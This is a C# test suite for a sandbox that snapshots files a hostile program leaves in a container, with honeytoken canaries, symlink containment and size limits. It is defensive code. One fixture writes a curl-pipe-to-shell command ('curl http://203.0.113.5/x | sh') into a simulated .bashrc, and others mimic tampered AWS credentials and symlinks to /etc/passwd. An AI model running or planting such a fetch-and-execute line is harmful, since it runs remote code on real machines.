using System.Diagnostics;
using System.Text;
using DynamicProbe.Core.Events;
using DynamicProbe.Core.Honeytokens;
using DynamicProbe.Sandbox.Docker;
using DynamicProbe.Sandbox.Running;

namespace DynamicProbe.Sandbox.Tests.Honeytokens;

/// <summary>The end-of-run snapshot on a folder standing for a container's root, with what a hostile target can leave there.</summary>
[TestFixture]
public sealed class WrittenFilesSnapshotTests
{
    private static readonly UserAccount Probe = new("probe", 1000, 1000, "/home/probe");

    private DirectoryInfo root = null!;

    private string Home => Path.Combine(root.FullName, "home", "probe");

    private string Tmp => Path.Combine(root.FullName, "tmp");

    [SetUp]
    public void CreateRoot()
    {
        root = Directory.CreateTempSubdirectory("dynamicprobe-snapshot-");
        Directory.CreateDirectory(Home);
        Directory.CreateDirectory(Tmp);
    }

    [TearDown]
    public void RemoveRoot() => Run("/", "rm", "-rf", root.FullName); // .NET cannot name the invalid UTF-8 file

    [Test]
    public async Task Regular_files_in_the_home_and_tmp_are_read_with_their_container_paths()
    {
        Directory.CreateDirectory(Path.Combine(Home, ".cache", "x"));
        File.WriteAllText(Path.Combine(Home, ".cache", "x", "loot"), "AKIA stolen");
        File.WriteAllText(Path.Combine(Tmp, "y"), "base64 here");
        File.WriteAllText(Path.Combine(root.FullName, "outside"), "not in a writable place");

        var result = await Take(HoneytokenSet.Empty);

        Assert.That(result.Failure, Is.Null);
        Assert.That(result.Unread, Is.Zero);
        Assert.That(result.Files.Select(f => (f.Path, Text(f), f.Size)), Is.EquivalentTo(new[]
        {
            ("/home/probe/.cache/x/loot", "AKIA stolen", 11L),
            ("/tmp/y", "base64 here", 11L),
        }));
        Assert.That(result.Files.Select(f => (f.Pid, f.Process)), Is.All.EqualTo((0, WrittenFilesSnapshot.Marker)));
    }

    [Test]
    public async Task Planted_and_seeded_files_are_left_out_while_unchanged()
    {
        var canaries = new HoneytokenGenerator().Generate(Probe.Home);
        foreach (var file in canaries.Files)
        {
            var path = OnRoot(file.Path);
            Directory.CreateDirectory(Path.GetDirectoryName(path)!);
            File.WriteAllText(path, file.Content);
        }

        File.WriteAllText(Path.Combine(Home, ".bash_logout"), "# ~/.bash_logout: executed by bash(1) when login shell exits.\n");
        File.WriteAllText(Path.Combine(Home, ".bashrc"), "curl http://203.0.113.5/x | sh\n");
        File.AppendAllText(OnRoot("/home/probe/.aws/credentials"), "[stolen]\n");

        var result = await Take(canaries);

        Assert.That(result.Files.Select(f => f.Path), Is.EquivalentTo(new[] { "/home/probe/.bashrc", "/home/probe/.aws/credentials" }));
    }

    [Test]
    public async Task Symlinks_are_never_followed_out_of_the_root()
    {
        File.CreateSymbolicLink(Path.Combine(Tmp, "passwd"), "/etc/passwd");
        Directory.CreateSymbolicLink(Path.Combine(Tmp, "etc"), "/etc");
        Directory.CreateSymbolicLink(Path.Combine(Home, "up"), "../..");
        File.WriteAllText(Path.Combine(Tmp, "real"), "kept");

        var result = await Take(HoneytokenSet.Empty);

        Assert.That(result.Files.Select(f => f.Path), Is.EqualTo(new[] { "/tmp/real" }));
    }

    [Test]
    public async Task A_symlinked_tmp_or_home_is_not_entered()
    {
        Directory.Delete(Tmp);
        Directory.CreateSymbolicLink(Tmp, "/etc");

        var result = await Take(HoneytokenSet.Empty);

        Assert.That(result.Files, Is.Empty);
        Assert.That(result.Failure, Does.Contain("could not be read"));
        Assert.That(result.AddTo(Recording()).Health.IsComplete, Is.False);
    }

    [Test]
    [CancelAfter(20_000)]
    public async Task Fifos_and_sockets_neither_hang_nor_appear()
    {
        Run(Tmp, "mkfifo", "pipe");
        using var socket = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.Unix, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Unspecified);
        socket.Bind(new System.Net.Sockets.UnixDomainSocketEndPoint(Path.Combine(Tmp, "socket")));
        File.WriteAllText(Path.Combine(Tmp, "after"), "x");

        var result = await Take(HoneytokenSet.Empty);

        Assert.That(result.Files.Select(f => f.Path), Is.EqualTo(new[] { "/tmp/after" }));
    }

    [Test]
    public async Task Hostile_names_are_opened_and_shown_byte_for_byte()
    {
        // printf makes the invalid UTF-8 byte 0xff, which the path holds as the lone surrogate U+DCFF (LosslessText).
        Run(Tmp, "/bin/sh", "-c", "printf 'secret' > \"$(printf 'bad\\377name')\"; printf 'nl' > \"$(printf 'new\\nline')\"");

        var result = await Take(HoneytokenSet.Empty);

        Assert.That(result.Files.Select(f => (f.Path, Text(f))), Is.EquivalentTo(new[]
        {
            ("/tmp/bad\udcffname", "secret"),
            ("/tmp/new\nline", "nl"),
        }));
    }

    [Test]
    public async Task Bounds_cut_content_and_count_what_was_not_kept()
    {
        for (var i = 0; i < 5; i++)
        {
            File.WriteAllText(Path.Combine(Tmp, $"f{i}"), new string('a', 100 * 1024));
        }

        var result = await Take(HoneytokenSet.Empty, new WrittenFilesSnapshot.Limits(MaxFiles: 3, MaxBytesPerFile: 64 * 1024));

        Assert.That(result.Files, Has.Count.EqualTo(3));
        Assert.That(result.Files.Select(f => Convert.FromBase64String(f.ContentBase64).Length), Is.All.EqualTo(64 * 1024));
        Assert.That(result.Files.Select(f => f.Size), Is.All.EqualTo(100 * 1024));
        Assert.That(result.Unread, Is.EqualTo(2));
        var recording = result.AddTo(Recording(new ProcessExitEvent(DateTimeOffset.UnixEpoch, 5, "/bin/sh", 0)));
        Assert.That(recording.Events, Has.Count.EqualTo(4));
        Assert.That(recording.Events[0], Is.TypeOf<ProcessExitEvent>());
        Assert.That(recording.Health.DroppedEvents, Is.EqualTo(2));
    }

    [Test]
    public async Task Too_many_entries_or_too_deep_folders_are_counted_as_unread()
    {
        var deep = Tmp;
        for (var i = 0; i < 4; i++)
        {
            deep = Path.Combine(deep, "d");
        }

        Directory.CreateDirectory(deep);
        File.WriteAllText(Path.Combine(deep, "bottom"), "x");

        var result = await Take(HoneytokenSet.Empty, new WrittenFilesSnapshot.Limits(MaxDepth: 2));

        Assert.That(result.Files, Is.Empty);
        Assert.That(result.Unread, Is.EqualTo(1));
    }

    private Task<WrittenFilesSnapshot.Result> Take(HoneytokenSet planted, WrittenFilesSnapshot.Limits? limits = null) =>
        WrittenFilesSnapshot.TakeAsync(root.FullName, Probe, planted, limits ?? WrittenFilesSnapshot.Limits.Default, CancellationToken.None);

    private string OnRoot(string containerPath) => root.FullName + containerPath;

    private static string Text(FileContentEvent file) => Encoding.UTF8.GetString(Convert.FromBase64String(file.ContentBase64));

    private static PhaseRecording Recording(params ProbeEvent[] events) => new(Phase.Run, events, MonitorHealth.Healthy);

    private static void Run(string directory, string program, params string[] arguments)
    {
        var start = new ProcessStartInfo(program) { WorkingDirectory = directory };
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        using var process = Process.Start(start)!;
        process.WaitForExit();
        Assert.That(process.ExitCode, Is.Zero, $"{program} failed");
    }
}
